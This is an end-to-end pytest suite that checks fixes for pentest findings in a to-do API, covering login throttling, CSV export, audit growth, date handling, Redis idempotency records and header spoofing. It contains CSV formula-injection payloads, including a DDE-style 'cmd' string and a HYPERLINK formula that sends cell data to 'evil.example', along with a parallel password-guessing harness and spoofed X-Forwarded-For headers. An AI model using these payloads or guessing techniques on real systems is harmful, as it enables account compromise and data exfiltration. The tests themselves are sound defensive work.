"""The findings of the outside attack (issue 8), each replayed through the local API Gateway.

Every test here failed before its fix: parallel guesses beat the login throttle, a wrong
`currentPassword` was an unthrottled oracle, formulas reached the CSV export, anonymous callers
grew the audit trail without bound, extreme dates answered 500, the idempotency record kept an
unkeyed hash of the body, the local gateway trusted `X-Forwarded-For`, and upper-case ids were
accepted in paths but not in filters.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest
import redis
from bson import ObjectId
from pymongo.database import Database

from tests.e2e.support import assert_problem
from tests.factories import DEFAULT_PASSWORD, make_project, make_user
from todo_common.models import Role, User
from todo_common.schemas.users import UserCreate
from todo_common.security.passwords import hash_password
from todo_common.settings import get_settings

pytestmark = pytest.mark.e2e

Db = Database[dict[str, Any]]
Login = Callable[[str, str], dict[str, Any]]
MakeUser = Callable[..., tuple[User, dict[str, str]]]
WRONG = "not-the-password-1"


def _wait_for_audits(db: Db, query: dict[str, Any], count: int, seconds: float = 10) -> int:
    """The number of audit records matching `query`, once it reaches `count` (or the deadline)."""
    deadline = time.monotonic() + seconds
    found = db.audits.count_documents(query)
    while found < count and time.monotonic() < deadline:
        time.sleep(0.1)
        found = db.audits.count_documents(query)
    return found


# --- 1. the login throttle holds under parallel guesses -------------------------------------


def test_twenty_parallel_wrong_passwords_check_at_most_five_and_lock_the_right_one_out(
    api: httpx.Client, db: Db, gateway_url: str
) -> None:
    # Given an account whose password hash has the production cost, so each check takes as
    # long as in AWS (~250 ms) and parallel guesses overlap as they would there
    user = make_user(db)
    db.users.update_one(
        {"_id": ObjectId(user.id)}, {"$set": {"passwordHash": hash_password(DEFAULT_PASSWORD, 12)}}
    )

    # When an attacker sends 20 wrong passwords for it at once
    def guess(_: int) -> httpx.Response:
        with httpx.Client(base_url=gateway_url, timeout=15) as own:
            return own.post("/auth/login", json={"email": user.email, "password": WRONG})

    with ThreadPoolExecutor(max_workers=20) as pool:
        responses = list(pool.map(guess, range(20)))

    # Then at most five reached the password check; the rest were refused with Retry-After
    statuses = [r.status_code for r in responses]
    assert statuses.count(401) <= get_settings().security.login_max_failures, statuses
    assert set(statuses) <= {401, 429}, statuses
    for refused in (r for r in responses if r.status_code == 429):
        assert_problem(refused, 429)

    # And the right password is refused too until the window ends
    right = api.post("/auth/login", json={"email": user.email, "password": DEFAULT_PASSWORD})
    assert_problem(right, 429)


# --- 2. a wrong currentPassword spends the same budget ---------------------------------------


def test_guessing_current_password_with_a_stolen_token_is_throttled_like_a_login(
    api: httpx.Client, user_with_token: MakeUser
) -> None:
    # Given a USER's access token in an attacker's hands
    user, headers = user_with_token(Role.USER)
    change = {"password": "a-brand-new-password", "currentPassword": WRONG}

    # When the attacker guesses currentPassword five times
    for _ in range(get_settings().security.login_max_failures):
        assert_problem(api.patch(f"/users/{user.id}", json=change, headers=headers), 403)

    # Then the sixth guess, even the right one, is 429, and so is a login from that address
    right = {**change, "currentPassword": DEFAULT_PASSWORD}
    assert_problem(api.patch(f"/users/{user.id}", json=right, headers=headers), 429)
    login = api.post("/auth/login", json={"email": user.email, "password": DEFAULT_PASSWORD})
    assert_problem(login, 429)


# --- 3. no formula reaches the ADMIN's spreadsheet --------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_planted_through_a_failed_login_is_neutralised_in_the_csv_export(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    # Given failed logins for emails that are spreadsheet formulas, sent without an account
    planted = ["=1+2@evil.example", "+cmd|x!a@evil.example", "-2+3@evil.example"]
    for email in planted:
        response = api.post("/auth/login", json={"email": email, "password": WRONG})
        assert_problem(response, 401)
    _, admin = user_with_token(Role.ADMIN)
    assert _wait_for_audits(db, {"entityId": {"$in": planted}}, len(planted)) == len(planted)

    # When the ADMIN exports the trail as CSV
    export = api.get("/audits", headers={**admin, "Accept": "text/csv"})

    # Then every planted value is there, quoted with a leading apostrophe, and no cell starts a
    # formula
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    for email in planted:
        assert f"'{email}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "username", ["not-an-email", '=HYPERLINK("http://evil.example/?x="&A1,"c")', "x" * 60_000]
)
def test_the_token_form_refuses_a_username_that_is_not_an_email_and_records_nothing(
    api: httpx.Client, db: Db, username: str
) -> None:
    # When the OAuth2 form is sent with a username that is no email
    response = api.post("/auth/token", data={"username": username, "password": WRONG})

    # Then it is a 422 naming the field
    body = assert_problem(response, 422)
    assert ["body", "username"] in [error["loc"] for error in body["errors"]]

    # And nothing was audited: a later failed login is recorded, the refused one never is
    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
    assert _wait_for_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
    assert db.audits.count_documents({"entityId": username}) == 0
    assert db.audit_outbox.count_documents({}) == 0 or not list(
        db.audit_outbox.find({"event.entityId": username})
    )


def test_an_email_over_320_characters_is_refused_before_anything_is_stored(
    api: httpx.Client, db: Db
) -> None:
    email = "a" * 64 + "@" + ".".join(["b" * 60] * 5) + ".example"
    assert len(email) > 320
    login = api.post("/auth/login", json={"email": email, "password": WRONG})
    assert_problem(login, 422)
    form = api.post("/auth/token", data={"username": email, "password": WRONG})
    assert_problem(form, 422)
    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
    assert _wait_for_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
    assert db.audits.count_documents({"entityId": email}) == 0


# --- 4. anonymous callers cannot grow the trail without bound ---------------------------------


def test_failed_logins_from_one_address_across_many_emails_are_bounded(
    api: httpx.Client, db: Db
) -> None:
    # Given an attacker who tries a new email on every request, escaping the per-email budget
    budget = get_settings().security.login_max_failures_per_address
    statuses = [
        api.post(
            "/auth/login", json={"email": f"victim{i}@example.com", "password": WRONG}
        ).status_code
        for i in range(budget + 3)
    ]

    # Then the address's budget runs out: the requests past it are 429
    assert statuses[:budget] == [401] * budget
    assert statuses[budget:] == [429] * 3

    # And an existing account cannot be logged into from that address until the window ends
    user = make_user(db)
    login = api.post("/auth/login", json={"email": user.email, "password": DEFAULT_PASSWORD})
    assert_problem(login, 429)


def test_a_throttled_attacker_leaves_one_throttled_record_per_window_not_one_per_request(
    api: httpx.Client, db: Db
) -> None:
    # Given an account locked out by five failures
    user = make_user(db)
    limit = get_settings().security.login_max_failures
    for _ in range(limit):
        api.post("/auth/login", json={"email": user.email, "password": WRONG})

    # When the attacker keeps trying ten more times
    for _ in range(10):
        response = api.post("/auth/login", json={"email": user.email, "password": WRONG})
        assert_problem(response, 429)

    # Then the trail holds the five failures and a single throttled record
    assert _wait_for_audits(db, {"entityId": user.id}, limit + 1) == limit + 1
    time.sleep(0.5)  # anything more would have arrived by now
    details = sorted(doc["detail"] for doc in db.audits.find({"entityId": user.id}))
    assert details == ["LOGIN_FAILED_THROTTLED"] + ["LOGIN_FAILED_WRONG_PASSWORD"] * limit


# --- 5. dates that cannot be represented are 422, never 500 ------------------------------------

UNREPRESENTABLE = ("9999-12-31T23:00:00-14:00", "0001-01-01T00:00:00+14:00")
EXTREME_BUT_VALID = ("9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z")


def _date_query_params(document: dict[str, Any]) -> list[tuple[str, str]]:
    """(path, parameter) for every GET query parameter that is a date-time in the document."""
    found = []
    for path, operations in document["paths"].items():
        for parameter in operations.get("get", {}).get("parameters", []):
            schema = parameter.get("schema", {})
            options = schema.get("anyOf", [schema])
            if parameter["in"] == "query" and any(o.get("format") == "date-time" for o in options):
                found.append((path, parameter["name"]))
    return found


def _date_body_fields(document: dict[str, Any]) -> list[tuple[str, str, str]]:
    """(method, path, field) for every request-body field that is a date-time."""
    schemas = document["components"]["schemas"]
    found = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            ref = content.get("application/json", {}).get("schema", {}).get("$ref")
            if not ref:
                continue
            properties = schemas[ref.rsplit("/", 1)[1]].get("properties", {})
            for name, schema in properties.items():
                options = schema.get("anyOf", [schema])
                if any(option.get("format") == "date-time" for option in options):
                    found.append((method, path, name))
    return found


def test_every_date_parameter_and_field_of_the_api_is_known_to_this_test(
    api: httpx.Client,
) -> None:
    # The routes below are exercised one by one; a new date input must be added to them.
    document = api.get("/openapi.json").json()
    assert sorted(_date_query_params(document)) == sorted(DATE_QUERY_ROUTES)
    assert sorted(_date_body_fields(document)) == sorted(DATE_BODY_ROUTES)


DATE_QUERY_ROUTES = [
    ("/tasks", "dueBefore"),
    ("/audits", "from"),
    ("/audits", "to"),
    ("/audits/verify", "from"),
    ("/audits/verify", "to"),
    ("/reports/activity", "from"),
    ("/reports/activity", "to"),
]
DATE_BODY_ROUTES = [
    ("post", "/tasks", "dueDate"),
    ("put", "/tasks/{task_id}", "dueDate"),
    ("patch", "/tasks/{task_id}", "dueDate"),
]


@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
@pytest.mark.parametrize("value", UNREPRESENTABLE)
def test_an_unrepresentable_date_in_a_query_is_422_naming_the_parameter(
    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    body = assert_problem(api.get(path, params={name: value}, headers=admin), 422)
    assert ["query", name] in [error["loc"] for error in body["errors"]]


@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
@pytest.mark.parametrize("value", EXTREME_BUT_VALID)
def test_the_first_and_last_representable_instants_in_a_query_are_answered(
    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    params = {name: value}
    if path == "/reports/activity":  # the report needs both ends, at most a year apart
        first = value.startswith("0001")
        params = (
            {"from": value, "to": "0001-12-31T00:00:00Z"}
            if first
            else {
                "from": "9999-12-01T00:00:00Z",
                "to": value,
            }
        )
    if path == "/audits/verify":  # at most 7 days, and `to` defaults to now
        params = (
            {"from": value, "to": "0001-01-02T00:00:00Z"}
            if value.startswith("0001")
            else {"from": "9999-12-31T00:00:00Z", "to": value}
        )
    response = api.get(path, params=params, headers=admin)
    assert response.status_code == 200, response.text


@pytest.mark.parametrize(("method", "path", "name"), DATE_BODY_ROUTES)
@pytest.mark.parametrize("value", UNREPRESENTABLE)
def test_an_unrepresentable_date_in_a_body_is_422_and_changes_nothing(
    api: httpx.Client,
    db: Db,
    user_with_token: MakeUser,
    method: str,
    path: str,
    name: str,
    value: str,
) -> None:
    admin_user, admin = user_with_token(Role.ADMIN)
    project = make_project(db, owner=admin_user)
    created = api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
    assert created.status_code == 201, created.text
    task_id = created.json()["id"]
    body: dict[str, Any] = {name: value}
    if method in ("post", "put"):
        body |= {"projectId": project.id, "description": "d"}
    url = path.replace("{task_id}", task_id)
    response = api.request(method.upper(), url, json=body, headers=admin)
    problem = assert_problem(response, 422)
    assert ["body", name] in [error["loc"] for error in problem["errors"]]
    assert db.tasks.count_documents({}) == 1
    stored = db.tasks.find_one({})
    assert stored is not None
    assert stored["version"] == 1
    assert stored["dueDate"] is None


# --- 6. no unkeyed hash of a create body is kept in Redis --------------------------------------


def test_the_idempotency_record_of_a_user_create_holds_no_unkeyed_hash_of_the_password(
    api: httpx.Client, redis_client: redis.Redis, user_with_token: MakeUser
) -> None:
    # Given an ADMIN creating a user with an Idempotency-Key
    _, admin = user_with_token(Role.ADMIN)
    body = {
        "username": "newcomer",
        "email": "newcomer@example.com",
        "fullName": "New Comer",
        "password": "correct-horse-battery",
        "role": "USER",
    }
    headers = {**admin, "Idempotency-Key": "create-newcomer"}
    assert api.post("/users", json=body, headers=headers).status_code == 201

    # Then no value in Redis carries the password, or an MD5/SHA of it or of the body
    validated = UserCreate.model_validate(body)
    candidates: list[bytes] = [b"correct-horse-battery"]
    for shape in (body, validated.model_dump(mode="json"), validated.model_dump(by_alias=True)):
        for separators in ((",", ":"), (", ", ": ")):
            candidates.append(json.dumps(shape, sort_keys=True, separators=separators).encode())
    digests = {
        getattr(hashlib, name)(candidate).hexdigest()
        for candidate in candidates
        for name in ("md5", "sha1", "sha256")
    }
    stored = " ".join(
        str(redis_client.get(key))
        for key in redis_client.scan_iter()
        if redis_client.type(key) == "string"
    )
    assert "correct-horse-battery" not in stored
    assert not [digest for digest in digests if digest in stored]

    # And the key still does its job: a retry replays, another body is refused
    replay = api.post("/users", json=body, headers=headers)
    assert replay.status_code == 201
    assert replay.headers["idempotent-replayed"] == "true"
    other = api.post("/users", json={**body, "password": "another-password-1"}, headers=headers)
    assert_problem(other, 422)


# --- 8. the local gateway is as strict as API Gateway -----------------------------------------


def test_x_forwarded_for_does_not_give_a_throttled_client_a_new_address(
    api: httpx.Client, db: Db
) -> None:
    user = make_user(db)
    for _ in range(get_settings().security.login_max_failures):
        api.post("/auth/login", json={"email": user.email, "password": WRONG})
    spoofed = api.post(
        "/auth/login",
        json={"email": user.email, "password": DEFAULT_PASSWORD},
        headers={"X-Forwarded-For": "198.51.100.7", "Forwarded": "for=198.51.100.7"},
    )
    assert_problem(spoofed, 429)


def test_a_body_that_is_not_utf8_is_refused_and_creates_nothing(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    raw = b'{"name": "caf\xe9 \xff", "description": "d"}'
    response = api.post(
        "/projects", content=raw, headers={**admin, "Content-Type": "application/json"}
    )
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["status"] == 400
    assert db.projects.count_documents({}) == 0


# --- 9. one rule for ids ------------------------------------------------------------------------


def test_an_upper_case_id_is_accepted_in_filters_as_in_paths(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    admin_user, admin = user_with_token(Role.ADMIN)
    project = make_project(db, owner=admin_user)
    api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
    upper = project.id.upper()

    assert api.get(f"/projects/{upper}", headers=admin).json()["id"] == project.id
    tasks = api.get("/tasks", params={"projectId": upper}, headers=admin)
    assert tasks.status_code == 200, tasks.text
    assert [t["projectId"] for t in tasks.json()["items"]] == [project.id]
    owned = api.get("/projects", params={"ownerId": admin_user.id.upper()}, headers=admin)
    assert owned.status_code == 200, owned.text
    assert [p["id"] for p in owned.json()["items"]] == [project.id]
    created = api.post("/tasks", json={"projectId": upper, "description": "upper"}, headers=admin)
    assert created.status_code == 201, created.text
    assert created.json()["projectId"] == project.id
